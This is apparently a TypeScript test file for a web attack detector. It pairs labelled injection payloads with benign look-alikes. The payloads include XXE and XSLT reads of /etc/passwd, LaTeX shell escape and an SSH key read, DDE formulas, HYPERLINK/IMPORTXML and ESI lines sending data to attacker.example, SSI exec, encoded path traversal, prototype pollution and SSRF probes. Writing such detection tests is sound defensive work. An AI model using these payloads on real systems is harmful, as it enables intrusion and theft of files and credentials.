/**
 * The injection classes of branch i18-classes (docs/detection.md, "Classes and carriers"): XPath,
 * XML/XSLT, formula (CSV), LaTeX, edge-side includes, memory-corruption probes, and the carriers
 * that bring any payload in (JSON fields of every shape, base64 layers, repeated percent encoding,
 * overlong UTF-8 of every length, DOCTYPE in a string). Each class is written from the grammar of
 * the attack and has benign look-alikes that must stay quiet. Where: `q` a query value
 * (`/search?q=`), `form` a form field, `json` a JSON field, `ua` the User-Agent, `cookie` a cookie
 * (sent percent-encoded, as read), `path` a whole target.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { at, BROWSER, HOST, RELAXED, tx, type TxSpec, type Where } from './helpers';

const HEADERS: Array<[string, string]> = [HOST, BROWSER];

const detector = new AttackDetector(RELAXED);
function classes(s: TxSpec): AttackClass[] {
  return detector.detect(tx(s))?.hits.map((h) => h.class) ?? [];
}
const b64 = (s: string): string => Buffer.from(s).toString('base64');

const ATTACKS: Array<[string, AttackClass, Where, string]> = [
  // XPath: XPath's own functions and axes, a condition on the document after a closed string, a union of paths.
  ['a node-set function on the root', 'xpathi', 'q', 'count(/child::node())'],
  ['the name of the root element', 'xpathi', 'q', 'name(/*[1])'],
  ['blind extraction of a name, character by character', 'xpathi', 'q', "' or substring(name(parent::*),1,1)='a' or '"],
  ['a closed string then a condition on the document', 'xpathi', 'form', "x' or name()='username' or 'x'='y"],
  ['a closed string then a count of the root', 'xpathi', 'q', "' and count(/@*)=1 and '1'='1"],
  ['a closed predicate and a union selecting everything', 'xpathi', 'q', "']|//*|//*['"],
  ['an axis step', 'xpathi', 'json', 'descendant-or-self::node()'],
  // XML and XSLT beyond entities.
  ['an XSLT instruction reading the processor', 'xml_injection', 'q', '<xsl:value-of select="system-property(\'xsl:vendor\')"/>'],
  ['an XSLT document() reading a file', 'xml_injection', 'json', '<xsl:copy-of select="document(\'/etc/passwd\')"/>'],
  ['an extension function alone (injected into a select)', 'xml_injection', 'q', "system-property('xsl:version')"],
  [
    'CDATA sections cutting a tag apart',
    'xml_injection',
    'form',
    "<![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('x')<![CDATA[<]]>/SCRIPT<![CDATA[>]]>",
  ],
  [
    'an element closed and a new one opened (SOAP by concatenation)',
    'xml_injection',
    'form',
    'bob</username><role>admin</role><username>bob',
  ],
  // Formula (CSV) injection: only where a formula starts, only when it runs or sends.
  ['DDE starting a program', 'csv_injection', 'form', "=cmd|' /C calc'!A0"],
  ['DDE after a Lotus-style function', 'csv_injection', 'json', "@SUM(1+9)*cmd|' /C calc'!A0"],
  ['DDE after arithmetic', 'csv_injection', 'q', "-2+3+cmd|' /C calc'!A0"],
  ['a link sending a cell away', 'csv_injection', 'form', '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'],
  [
    'a fetch in a cell of CSV text',
    'csv_injection',
    'form',
    'name,email\nbob,"=IMPORTXML(CONCAT(""http://attacker.example/?"",B2),""//a"")"',
  ],
  // LaTeX.
  ['a system file read into the document', 'latex_injection', 'form', '\\input{/etc/passwd}'],
  ['shell escape', 'latex_injection', 'json', '\\immediate\\write18{id > /tmp/x}'],
  ['a listing of a private key', 'latex_injection', 'q', '\\lstinputlisting{~/.ssh/id_rsa}'],
  ['input through a pipe runs a command', 'latex_injection', 'q', '\\input|"id"'],
  ['a file opened by a read stream', 'latex_injection', 'form', '\\newread\\f \\openin\\f=/etc/hosts \\read\\f to\\x \\x'],
  ['LuaTeX code', 'latex_injection', 'json', '\\directlua{os.execute("id")}'],
  // Server-side and edge-side includes.
  ['an ESI include', 'ssi', 'q', '<esi:include src="http://attacker.example/x"/>'],
  ['an ESI variable reading the cookies', 'ssi', 'json', "<esi:vars>$(HTTP_COOKIE{'sid'})</esi:vars>"],
  ['a bare ESI variable', 'ssi', 'q', '$(HTTP_COOKIE)'],
  ['an SSI exec', 'ssi', 'form', '<!--#exec cmd="id"-->'],
  ['an SSI include of a system file', 'ssi', 'q', '<!--#include virtual="/etc/passwd"-->'],
  // Memory-corruption probes.
  ['thousands of one character in a parameter', 'overflow', 'q', 'A'.repeat(5000)],
  ['a run of one character in a JSON field', 'overflow', 'json', 'B'.repeat(1200)],
  ['a run of one character in the User-Agent', 'overflow', 'ua', 'A'.repeat(2048)],
  ['format conversions that write memory', 'overflow', 'q', '%n%n%n%n'],
  ['format conversions that read the stack', 'overflow', 'form', 'AAAA.%08x.%08x.%08x.%08x'],
  ['mixed conversions', 'overflow', 'json', '%s%p%x%d'],
  ['a padding run then one conversion', 'overflow', 'q', 'AAAAA%n'],
  ['an enormous width', 'overflow', 'q', '%99999999999s'],
  // Mail injection (a class of before, the forms of this round's check).
  ['a recipient added after an encoded line break', 'mail_injection', 'form', 'me@shop.example\r\nBcc: a@attacker.example'],
  ['an SMTP command', 'mail_injection', 'form', 'hi\r\n.\r\nMAIL FROM:<a@attacker.example>'],
];

for (const [what, cls, where, value] of ATTACKS) {
  test(`${cls}: ${what}`, () => {
    const got = classes(at(where, value));
    assert.ok(
      got.includes(cls),
      `${JSON.stringify(value.slice(0, 100))} at ${where}: expected ${cls}, got ${JSON.stringify(got)}`,
    );
  });
}

const BENIGN: Array<[string, Where, string]> = [
  ['PHP scope resolution', 'json', 'parent::__construct(); return self::VERSION;'],
  ['Rust module path', 'json', 'use self::parser::Token;'],
  ['a JavaScript method given a regex', 'json', 'if (s.contains(/x/)) count(items)'],
  ['a possessive and "or"', 'q', "O'Brien or not"],
  ['editor HTML fragment', 'json', 'Great</b> <i>product</i>'],
  ['prose naming a document', 'q', 'see document("intro") for details'],
  ['a spreadsheet formula that only computes', 'json', '=SUM(A1:A3)'],
  ['a negative number and arithmetic', 'q', '-2+3'],
  ['a Markdown list item calling a function', 'json', '- call(fn) to start the job'],
  ['an e-mail address', 'form', '@someone thanks!'],
  ['a LaTeX formula', 'json', '\\frac{a}{b} + \\sqrt{2}'],
  ['a LaTeX chapter include of an editor', 'json', '\\input{chapter1}\n\\include{appendix}'],
  ['a Windows path', 'form', 'C:\\input\\files\\report.pdf'],
  ['a printf template with words', 'json', 'Hello %s, you have %d new messages'],
  ['a strftime date format', 'q', '%Y-%m-%d %H:%M:%S'],
  ['a C snippet formatting a colour', 'json', 'printf("#%02x%02x%02x", r, g, b);'],
  ['a discount', 'q', '50% off'],
  ['URL-encoded prose, whose %20 reads as a width', 'cookie', 'already committed to exiting, for example due to a fatal'],
  ['a URL-encoded date format', 'cookie', '%Y-%m-%d %H:%M'],
  ['indentation', 'json', ' '.repeat(600) + 'x'],
  ['a long base64 upload', 'json', b64('\u0001\u0002\u0003 binary ' + 'xyz'.repeat(400))],
  ['a shell glob with an unclosed bracket (once an internal error)', 'q', '//*['],
];

for (const [what, where, value] of BENIGN) {
  test(`benign: ${what}`, () => {
    assert.deepEqual(classes(at(where, value)), [], `${JSON.stringify(value.slice(0, 100))} at ${where}`);
  });
}

/** A payload reaches the detectors whatever carries it (docs/detection.md, Decoding). */
const CARRIERS: Array<[string, AttackClass, TxSpec]> = [
  ['SQL in a number-in-string JSON field', 'sqli', at('json', '1 union select password from users--')],
  [
    'markup in a nested JSON array',
    'xss',
    {
      method: 'POST',
      target: '/api',
      headers: [...HEADERS, ['Content-Type', 'application/json']],
      body: JSON.stringify({ a: [[['<script>alert(1)</script>']]] }),
    },
  ],
  ['base64 JSON field', 'xss', at('json', b64('<script>alert(1)</script>'))],
  ['base64 of base64', 'xss', at('q', b64(b64('<svg onload=alert(1)>')))],
  ['base64 in JSON in base64', 'ptrav', at('q', b64(JSON.stringify({ u: b64('../../../../etc/passwd') })))],
  ['base64 in a PHP-serialized string', 'ptrav', at('q', 'a:1:{s:4:"file";s:16:"L2V0Yy9wYXNzd2Q=";}')],
  ['double percent encoding', 'ptrav', { target: '/p?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd', headers: HEADERS }],
  ['triple percent encoding', 'xss', { target: '/p?q=%25253Cscript%25253Ealert(1)%25253C/script%25253E', headers: HEADERS }],
  ['triple percent encoding in the path', 'ptrav', { target: '/%25252e%25252e/%25252e%25252e/etc/passwd', headers: HEADERS }],
  [
    'overlong UTF-8, two bytes',
    'ptrav',
    { target: '/p?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd', headers: HEADERS },
  ],
  [
    'overlong UTF-8, four bytes',
    'ptrav',
    { target: '/p?f=%f0%80%80%ae%f0%80%80%ae/%f0%80%80%ae%f0%80%80%ae/etc/passwd', headers: HEADERS },
  ],
  [
    'overlong UTF-8, six bytes',
    'ptrav',
    { target: '/p?f=%fc%80%80%80%80%ae%fc%80%80%80%80%ae/%fc%80%80%80%80%ae%fc%80%80%80%80%ae/etc/passwd', headers: HEADERS },
  ],
  ['overlong UTF-8, five bytes', 'ptrav', { target: '/p?f=%f8%80%80%80%ae%f8%80%80%80%ae/etc/passwd', headers: HEADERS }],
  ['IIS %u escapes', 'ptrav', { target: '/p?f=%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd', headers: HEADERS }],
  ['a DOCTYPE inside a JSON string', 'xxe', at('json', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')],
  ['a DOCTYPE in a query value', 'xxe', at('q', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')],
  [
    'an entity expansion bomb without SYSTEM in JSON',
    'xxe',
    at('json', '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'),
  ],
  ['a DOCTYPE in base64 in JSON', 'xxe', at('json', b64('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'))],
  ['an XPath probe in base64', 'xpathi', at('json', b64('count(/child::node())'))],
  ['prototype pollution in a query name', 'rce', { target: '/p?__proto__[admin]=1', headers: HEADERS }],
  ['prototype pollution through constructor', 'rce', { target: '/p?constructor[prototype][admin]=1', headers: HEADERS }],
  [
    'prototype pollution by nesting in JSON',
    'rce',
    {
      method: 'POST',
      target: '/api',
      headers: [...HEADERS, ['Content-Type', 'application/json']],
      body: '{"constructor":{"prototype":{"isAdmin":true}}}',
    },
  ],
  ['SSRF to gopher', 'ssrf', at('q', 'gopher://127.0.0.1:6379/_INFO')],
  ['SSRF to dict', 'ssrf', at('q', 'dict://127.0.0.1:11211/stats')],
];

for (const [what, cls, s] of CARRIERS) {
  test(`carrier: ${what} (${cls})`, () => {
    const got = classes(s);
    assert.ok(got.includes(cls), `${s.target}: expected ${cls}, got ${JSON.stringify(got)}`);
  });
}

test('a file read through a stylesheet or TeX and shown in the response is succeeded', () => {
  const passwd = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n';
  for (const v of ['\\input{/etc/passwd}', '<xsl:copy-of select="document(\'/etc/passwd\')"/>']) {
    const r = detector.detect(
      tx({ ...at('q', v), response: { status: 200, headers: [['Content-Type', 'application/pdf']], body: passwd } }),
    );
    assert.equal(r?.verdict, 'succeeded', v);
  }
});

test('a JSON key prototype is pollution only under constructor, whatever came before (the value memory)', () => {
  const json = (body: string): TxSpec => ({
    method: 'POST',
    target: '/api',
    headers: [...HEADERS, ['Content-Type', 'application/json']],
    body,
  });
  const d = new AttackDetector(RELAXED);
  const hit = (body: string): AttackClass[] => d.detect(tx(json(body)))?.hits.map((h) => h.class) ?? [];
  assert.deepEqual(hit('{"shape":{"prototype":"circle"}}'), []);
  assert.deepEqual(hit('{"constructor":{"prototype":{"isAdmin":true}}}'), ['rce']);
  assert.deepEqual(hit('{"shape":{"prototype":"circle"}}'), []);
});
